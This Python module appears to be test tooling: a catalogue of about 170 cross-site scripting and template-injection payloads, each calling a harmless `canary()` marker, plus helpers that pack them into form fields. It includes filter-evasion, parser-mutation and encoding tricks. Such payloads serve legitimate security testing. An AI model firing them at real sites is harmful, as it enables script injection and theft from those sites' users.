"""Texts that call `canary()` in a page that shows them carelessly: at least 120, each another way in."""

CALL = "canary()"
_SCRIPTS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script\n>{CALL}</script\n>",
    f"<script x>{CALL}</script y>",
    f"<script/src>{CALL}</script>",
    f"<script type=module>{CALL}</script>",
    f"<script src='data:text/javascript,{CALL}'></script>",
    "<script>eval(atob('Y2FuYXJ5KCk='))</script>",
    "<script>\\u0063anary()</script>",
    "<script>window['can'+'ary']()</script>",
    "<script>canary``</script>",
    "<script>/*'/*\"/**/canary()//</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    f"<script>{CALL}<!--</script>",
)
# Out of the place in which a careless page puts a text.
_BREAKOUTS = (
    f"</script><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</noscript><script>{CALL}</script>",
    f"</template><script>{CALL}</script>",
    f"</select><script>{CALL}</script>",
    f"</option></select><img src=x onerror={CALL}>",
    f"--><script>{CALL}</script>",
    f"--!><img src=x onerror={CALL}>",
    f"]]><script>{CALL}</script>",
    f"?><script>{CALL}</script>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f"`><img src=x onerror={CALL}>",
    f"x><svg onload={CALL}>",
    f'\\"><svg onload={CALL}>',
    f"';{CALL};'",
    f'";{CALL};"',
    f"`;{CALL};`",
    f"${{{CALL}}}",
    f"\\';{CALL};//",
    f"');{CALL};('",
    f"\u2028{CALL}\u2029",
)
_ATTRIBUTES = (
    f'" autofocus onfocus={CALL} x="',
    f"' autofocus onfocus={CALL} x='",
    f'" onmouseover={CALL} style=position:fixed;inset:0 x="',
    f"' onclick='{CALL}",
    f'" onerror="{CALL}" src="x',
    f"x onfocus={CALL} autofocus tabindex=1",
    f"x\tonfocus={CALL}\tautofocus\ttabindex=1",
    f"x\nonpointerenter={CALL}",
    f'"/onanimationstart="{CALL}" style="animation:x',
    f'" accesskey="x" onclick="{CALL}',
    f'" formaction="javascript:{CALL}" type="submit',
    f'" href="javascript:{CALL}',
    f'" srcdoc="<script>parent.{CALL}</script>',
)
_EVENTS = (
    f"<img src=x onerror={CALL}>",
    f"<img src=x:x onerror='{CALL}'",
    f"<img/src/onerror={CALL}>",
    f"<IMG SRC=x OnErRoR={CALL}>",
    f"<img src=x onerror\n=\n{CALL}>",
    "<img src=x onerror=&#99;anary()>",
    "<img src=x onerror=&#x63;&#x61;nary&lpar;&rpar;>",
    f"<img srcset=x onerror={CALL}>",
    f"<picture><img src=x onerror={CALL}></picture>",
    f"<body onload={CALL}>",
    f"<body onpageshow={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<textarea autofocus onfocus={CALL}></textarea>",
    f"<button onclick={CALL}>x</button>",
    f"<video><source onerror={CALL}></video>",
    f"<video src=x onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<link rel=stylesheet href=x onerror={CALL}>",
    f"<iframe onload={CALL}></iframe>",
    f"<object data=x onerror={CALL}></object>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<dialog open onclose={CALL}>x</dialog>",
    f"<p contenteditable onblur={CALL}>x</p>",
    f"<x onclick={CALL} tabindex=1 autofocus onfocus={CALL}>x</x>",
    f"<form oninput={CALL}><input></form>",
    f"<div onpointerrawupdate={CALL}>x</div>",
    f"<div popover id=p onbeforetoggle={CALL}>x</div>",
    f"<style>@keyframes k{{}}</style><b style=animation:k onanimationstart={CALL}>",
)
_DRAWINGS = (
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href='data:,{CALL}'/></svg>",
    "<svg><script>&#99;anary()</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=20>x</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{CALL} />x</a></svg>",
    f"<svg><image href=x onerror={CALL}></svg>",
    f"<svg><use href=x onerror={CALL} onclick={CALL}></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={CALL}></desc></svg>",
    f"<svg><title><img src=x onerror={CALL}></title></svg>",
    f"<math><mi xlink:href='javascript:{CALL}'>x</mi></math>",
    f"<math href='javascript:{CALL}'>x</math>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}>",
)
# Harmless to one parser, and something else to the next that reads what the first wrote.
_MUTATIONS = (
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={CALL}>'>",
    f"<style><p title='</style><img src=x onerror={CALL}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<svg><style><img src=x onerror={CALL}></style></svg>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!-- --!><img src=x onerror={CALL}> -->",
    f"<![CDATA[><img src=x onerror={CALL}>]]>",
    f"<?xml ><img src=x onerror={CALL}>?>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>",
    f"<title><a title='</title><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template><img src=x onerror={CALL}>",
    f"<table><td><img src=x onerror={CALL}><td>",
)
_ADDRESSES = (
    f"<a href='javascript:{CALL}'>x</a>",
    f"<a href='JaVaScRiPt:{CALL}'>x</a>",
    f"<a href='java\tscript:{CALL}'>x</a>",
    f"<a href=' javascript:{CALL}'>x</a>",
    f"<a href='\x01javascript:{CALL}'>x</a>",
    f"<a href=javascript&colon;{CALL}>x</a>",
    f"<a href='&#106;avascript:{CALL}'>x</a>",
    f"<a href='javascript://%0a{CALL}'>x</a>",
    f"<a href='data:text/html,<script>opener.{CALL}</script>'>x</a>",
    f"<area href='javascript:{CALL}'>",
    f"<base href='javascript:{CALL}//'>",
    f"<form action='javascript:{CALL}'><button>x</button></form>",
    f"<button form=f formaction='javascript:{CALL}'>x</button>",
    f"<iframe src='javascript:parent.{CALL}'>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
    f"<embed src='javascript:{CALL}'>",
    f"<object data='javascript:{CALL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"javascript:{CALL}",
    f"JAVASCRIPT:{CALL}//https://a.example",
    f"[x](javascript:{CALL})",
    f"<javascript:{CALL}>",
)
_HTMX = (
    f"<div hx-on:load='{CALL}' hx-get='/' hx-trigger=load>x</div>",
    f"<button hx-on-click='{CALL}' data-hx-get=/ autofocus>x</button>",
    f"<b hx-on::after-init='{CALL}'>x</b>",
    f"<b data-hx-on:click='{CALL}'>x</b>",
    f"<b hx-get=/ hx-trigger='load[{CALL}]'>x</b>",
    f"<b hx-get=/ hx-trigger=load hx-vals='js:{{x:{CALL}}}'>x</b>",
    f"<b hx-get='javascript:{CALL}' hx-trigger=load>x</b>",
    f"<b hx-post=/ hx-headers='js:{{x:{CALL}}}' hx-trigger=load>x</b>",
)
_STYLES = (
    f"<style>@import 'javascript:{CALL}';</style>",
    f"<b style=\"background:url('javascript:{CALL}')\">x</b>",
    f"<b style='width:expression({CALL})'>x</b>",
    f"</style><svg onload={CALL}>",
    f"x;background:url(javascript:{CALL})",
)
# Read by whoever decodes or draws once too often.
_ENCODINGS = (
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"&amp;lt;svg onload={CALL}&amp;gt;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"\\x3csvg onload={CALL}\\x3e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"%253Csvg onload={CALL}%253E",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"＜script＞{CALL}＜/script＞",
    f"‹img src=x onerror={CALL}›",
    f"<\u200bscript>{CALL}</script>",
    f"\u202e<img src=x onerror={CALL}>",
    f"\ufeff<svg onload={CALL}>",
    f"<ſcript>{CALL}</ſcript>",
    f"<img src=x onerror=ｃanary()>{'́' * 9}",
    f"<svg onload={CALL}>\ud7ff\ue000\U0010fffd",
)
_TEMPLATES = (
    "{{ self.__init__.__globals__ }}{% raw %}",
    "{{7*'7'}}${7*7}#{7*7}<%= 7*7 %>",
    "{% include 'error.html' %}{{ visit.nonce }}",
    "{# x #}{%- endraw -%}{{ 7*7 }}",
    f"{{{{ '<svg onload={CALL}>'|safe }}}}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"<b v-html=\"'<svg onload={CALL}>'\" x-init={CALL}>x</b>",
    "%(name)s %s {0} {name!r}",
)
PAYLOADS: tuple[str, ...] = (
    *_SCRIPTS,
    *_BREAKOUTS,
    *_ATTRIBUTES,
    *_EVENTS,
    *_DRAWINGS,
    *_MUTATIONS,
    *_ADDRESSES,
    *_HTMX,
    *_STYLES,
    *_ENCODINGS,
    *_TEMPLATES,
)
SHORT = f"<svg/onload={CALL}>"
"""Fits into a name."""


REFUSED_IN_LINES = "\x01"
"""Characters of payloads that no form takes."""
REFUSED_IN_A_LINE = "\x01\t\n"
"""And those that a field for one line does not take."""


def packed(longest: int, begin: int = 0, refused: str = REFUSED_IN_A_LINE) -> str:
    """As many payloads as fit, from the one numbered `begin` on, without those that the field refuses."""
    text, begin = "", begin % len(PAYLOADS)
    for payload in (*PAYLOADS[begin:], *PAYLOADS[:begin]):
        if any(each in payload for each in refused):
            continue
        if len(text) + len(payload) < longest:
            text += f" {payload}" if text else payload
        elif len(text) > longest * 0.7:
            break
    return text


def in_parts(longest: int) -> list[str]:
    """All payloads that a field for several lines takes, in texts that fit into it."""
    parts: list[str] = [""]
    for payload in PAYLOADS:
        if any(each in payload for each in REFUSED_IN_LINES):
            continue
        if len(parts[-1]) + len(payload) >= longest:
            parts.append("")
        parts[-1] += payload + "\n"
    return parts
